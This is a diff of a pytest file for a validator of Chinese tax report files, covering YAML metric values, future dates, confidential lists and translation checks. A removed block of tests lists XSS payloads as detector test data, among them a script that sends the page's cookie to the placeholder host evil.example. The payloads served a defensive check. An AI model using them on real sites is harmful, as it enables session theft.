@@ -102,7 +102,8 @@ def test_good_report_of_another_template(vocab):
     ("refund_amount: 3.2", "refund_amount: 0"),                  # bounds are inclusive
     ("refund_amount: 3.2", "refund_amount: 1000"),
     ("refund_households: 1234", "refund_households: 1234.0"),    # a whole number written with .0
-    ("refund_households: 1234", "refund_households: 1_234"),     # YAML's digit separator
+    ("refund_amount: 3.2", "refund_amount: +3.2"),               # a sign, a point alone: plain decimal
+    ("refund_amount: 3.2", "refund_amount: .5"),
     ("refund_households: 1234", "refund_households: 1234\n  growth_rate: -3.5"),  # optional metric
 ])
 def test_good_variants_have_no_problem(vocab, old, new):
@@ -248,9 +249,10 @@ METRIC_RULES = {
     "not_number-with-unit": (
         "refund_amount: 3.2", "refund_amount: 12亿",
         P + "11: 指标 refund_amount 的值「12亿」不是数字 — 只写数字，不带单位和千分位逗号，例如 refund_amount: 12.5"),
-    "not_number-yaml-boolean": (
+    "not_number-yaml-boolean": (    # said once, where it is read: not also "not a number"
         "refund_amount: 3.2", "refund_amount: yes",
-        P + "11: 指标 refund_amount 的值「True」不是数字 — 只写数字，不带单位和千分位逗号，例如 refund_amount: 12.5"),
+        P + "11: metrics.refund_amount 的值「yes」会被 YAML 读作 true（是/否）"
+            " — 表示是或否时写 true 或 false；若是文字，加上引号：'yes'"),
     "not_number-integer": (
         "  refund_households: 1234\n", "  refund_households: 1234\n  instructions: 1,234\n",
         P + "13: 指标 instructions 的值「1,234」不是数字 — 只写数字，不带单位和千分位逗号，例如 instructions: 1234"),
@@ -342,16 +344,19 @@ def test_a_quoted_figure_with_an_invalid_value_is_reported_once_at_its_value(voc
         P + "12: 指标 refund_households 的值「TBD」是占位符，不是数字 — 填入实际数值（单位：户）"]
 
 
-@pytest.mark.parametrize("value", [".inf", "-.inf", ".nan"])
-def test_infinite_or_nan_integer_metric_is_not_a_number(vocab, value):
+@pytest.mark.parametrize("value, meaning", [(".inf", "无穷大"), ("-.inf", "无穷大"), (".nan", "「非数」（NaN）")])
+def test_infinite_or_nan_integer_metric_is_not_a_figure(vocab, value, meaning):
     text = edited("  refund_households: 1234\n", f"  refund_households: 1234\n  instructions: {value}\n")
     report = check(text, vocab)
-    assert [(p.line, p.code) for p in report.problems] == [(13, "not_number")]
+    assert [p.format() for p in report.problems] == [
+        P + f"13: metrics.instructions 的值「{value}」在 YAML 中表示{meaning}，不是一个实际的数"
+            f" — 写出实际数值；若是文字，加上引号：'{value}'"]
+    assert "instructions" not in report.metrics
 
 
-def test_nan_percent_metric_is_not_a_number(vocab):
+def test_nan_percent_metric_is_not_a_figure(vocab):
     report = check(edited("  refund_households: 1234\n", "  refund_households: 1234\n  growth_rate: .nan\n"), vocab)
-    assert [(p.line, p.code) for p in report.problems] == [(13, "not_number")]
+    assert [(p.line, p.code) for p in report.problems] == [(13, "yaml_special")]
 
 
 # --- the body -------------------------------------------------------------------------------
@@ -393,36 +398,6 @@ def test_masked_figures_each_once_and_in_english(vocab):
         P + f"16: the text has a masked figure '{masked}'"
             " — replace ** with {{ metric_name }} and give its value under metrics; for bold text use __text__"
         for masked in ("**元", "**户**亿元", "**%")]
-
-
-SCRIPT_FIX = "删除它：报告正文只能是文字、表格和图片，不能含脚本或 on… 事件属性"
-
-
-@pytest.mark.parametrize("body, found", [
-    ("<script>alert(1)</script>", ["<script>alert(1)</script>"]),
-    ("<script src=//evil.example/x.js>", ["<script src=//evil.example/x.js>"]),
-    ('<a href="#" onclick="steal()">详情</a>', ['<a href="#" onclick="steal()">']),
-    ("<img src=x onerror=alert(1)>", ["<img src=x onerror=alert(1)>"]),
-    ("[详情](javascript:alert(1))", ["javascript:"]),
-    ("[详情](JavaScript :alert(1))", ["JavaScript :"]),
-    ("<iframe src=//evil>", ["<iframe src=//evil>"]),
-    ("<script>document.location='//evil.example/?'+document.cookie</script>",
-     ["<script>document.location='//evil.exampl"]),    # quoted up to 40 characters
-])
-def test_script_in_body(vocab, body, found):
-    assert problems(GOOD + body + "\n", vocab) == [P + f"16: 正文含有脚本「{text}」 — {SCRIPT_FIX}" for text in found]
-
-
-def test_script_in_body_in_english(vocab):
-    assert problems(GOOD + '<a onclick="x()">x</a>\n', vocab, lang="en") == [
-        P + "16: the text contains script '<a onclick=\"x()\">'"
-            " — remove it: a report holds text, tables and images, no scripts or on… event attributes"]
-
-
-def test_script_in_code_is_still_reported(vocab):
-    """Unlike quotes and masks, script is looked for everywhere, code blocks included."""
-    text = GOOD + "```\n<script>\n```\n"
-    assert problems(text, vocab) == [P + f"17: 正文含有脚本「<script>」 — {SCRIPT_FIX}"]
 
 
 def test_body_lines_count_from_the_file_start(vocab):
@@ -519,3 +494,101 @@ metrics:
             " — 在 metrics 下加入 refund: 数值，或改正引用的名称（是否要写「refund_amount」？）",
         P + f"13: 正文中有被遮盖的数字「**元」 — {MASKED_FIX}",
     ]
+
+
+# --- nothing silent, clear messages (issue 9) ---------------------------------------------------
+
+TODAY = date(2023, 6, 1)
+
+
+def test_a_date_after_today_is_a_problem(vocab):
+    text = edited("date: 2023-01-15", "date: 2099-01-18")
+    assert [p.format() for p in check_report(split(text, PATH), vocab, today=TODAY).problems] == [
+        P + "3: 印发日期 2099-01-18 晚于今天 — 核对 date：档案只收录已经印发的报告，按 YYYY-MM-DD 写实际印发日期"]
+    assert [p.format("en") for p in check_report(split(text, PATH), vocab, today=TODAY).problems] == [
+        P + "3: the date of issue 2099-01-18 is after today"
+            " — check date: the archive holds reports already issued; write the actual date of issue as YYYY-MM-DD"]
+
+
+@pytest.mark.parametrize("issued, flagged", [("2023-06-01", False), ("2023-06-02", True), ("2023-01-15", False)])
+def test_today_is_the_last_day_a_report_may_be_dated(vocab, issued, flagged):
+    report = check_report(split(edited("date: 2023-01-15", f"date: {issued}"), PATH), vocab, today=TODAY)
+    assert [p.code for p in report.problems] == (["future_date"] if flagged else [])
+    assert report.date == date.fromisoformat(issued)
+
+
+def test_today_defaults_to_the_date_in_china(vocab):
+    from archive.validation import today_of_issue
+    from datetime import datetime, timedelta, timezone
+    assert today_of_issue() == datetime.now(timezone(timedelta(hours=8))).date()
+    assert check(GOOD, vocab).problems == []
+
+
+def test_a_quoted_year_says_the_quotes_are_the_problem(vocab):
+    assert problems(edited("year: 2022", "year: '2022'"), vocab) == [
+        P + "4: year 的值「2022」加了引号，成了文字而不是数字 — 去掉引号，写成 year: 2022"]
+    assert problems(edited("year: 2022", 'year: "2022"'), vocab, lang="en") == [
+        P + "4: year is '2022' in quotes, which makes it text, not a number — remove the quotes: year: 2022"]
+
+
+def test_a_quoted_metric_says_the_quotes_are_the_problem(vocab):
+    assert problems(edited("refund_amount: 3.2", "refund_amount: '3.2'"), vocab) == [
+        P + "11: refund_amount 的值「3.2」加了引号，成了文字而不是数字 — 去掉引号，写成 refund_amount: 3.2"]
+
+
+def test_a_bad_confidential_list_reports_every_bad_item_at_its_line(vocab):
+    text = edited("metrics:\n", "confidential:\n  - tax_revnue\n  - refund_amount\n  - 12\nmetrics:\n")
+    fix = "写 confidential: true（全部数字保密）或 confidential: [指标名]"
+    assert problems(text, vocab) == [P + f"10: confidential 应为 true 或本报告的指标名列表，「tax_revnue」不是 — {fix}",
+                                     P + f"12: confidential 应为 true 或本报告的指标名列表，「12」不是 — {fix}"]
+
+
+def test_a_flow_confidential_list_reports_every_bad_item(vocab):
+    text = edited("metrics:\n", "confidential: [tax_revnue, refund_amont]\nmetrics:\n")
+    assert [p.args["value"] for p in check(text, vocab).problems] == ["tax_revnue", "refund_amont"]
+
+
+@pytest.mark.parametrize("value", ["[tax_revnue]", "yes", "some"])
+def test_an_unreadable_confidential_keeps_every_figure_from_the_public(vocab, value):
+    report = check(edited("metrics:\n", f"confidential: {value}\nmetrics:\n"), vocab)
+    assert report.confidential == {"tax_revenue", "refund_amount", "refund_households"}
+    assert len(report.problems) == 1
+
+
+def test_a_value_the_yaml_reader_reported_is_not_reported_again(vocab):
+    text = edited("unit: 区税务局", "unit: on")
+    text = edited("year: 2022", "year: 0x7E6", text)
+    text = edited("refund_amount: 3.2", "refund_amount: 2:12", text)
+    text = edited("topics: [组织收入, 减税降费]", "topics: [组织收入, off]", text)
+    assert [p.code for p in check(text, vocab).problems] == ["yaml_number", "yaml_boolean", "yaml_boolean", "yaml_number"]
+
+
+def test_duplicate_keys_do_not_hide_missing_fields(vocab):
+    text = edited("unit: 区税务局\n", "title: 又一个标题\n")
+    assert sorted(problems(text, vocab)) == [
+        P + "1: 缺少必填字段 unit — 在 front matter 中加入 unit: 区税务局",
+        P + "5: title 写了两次，第 2 行已经有它 — 删除其中一处，只保留正确的一个"]
+
+
+def test_an_invalid_metric_is_not_an_unknown_quote_in_the_translation(vocab):
+    original = check(edited("refund_households: 1234", "refund_households: 12户"), vocab)
+    text = "---\ntitle: Tax\n---\nRefunds went to {{ refund_households }}.\n"
+    assert translate(text, vocab, original) == []
+    assert [p.code for p in original.problems] == ["not_number"]
+
+
+def test_an_invalid_metric_is_not_an_unknown_quote_in_the_translation_of_a_report_without_valid_metrics(vocab):
+    text = edited("metrics:\n  growth_rate: 5.2\n", "metrics:\n  growth_rate: 5.2%\n", FINANCE)
+    original = check(text, vocab, FINANCE_PATH)
+    assert translate("---\ntitle: Finance\n---\nGrowth {{ growth_rate }}.\n", vocab, original) == []
+
+
+def test_an_undefined_quote_never_suggests_its_own_name(vocab):
+    text = GOOD.replace("为{{ refund_households }}户纳税人办理留抵退税。", "增长{{ growth_rate }}。")
+    original = check(edited("  refund_households: 1234\n", "", text), vocab)
+    en = "---\ntitle: Tax\n---\nGrowth {{ growth_rate }}.\n"
+    found = translate(en, vocab, original)
+    assert found == [EN_PATH + ":4: 正文引用了 {{ growth_rate }}，但 metrics 中没有它"
+                               " — 在 metrics 下加入 growth_rate: 数值，或改正引用的名称"]
+    report = check("---\ntitle: a\n---\n{{ growth_rate }}\n", vocab)
+    assert all("是否要写「growth_rate」" not in p.format() for p in report.problems)
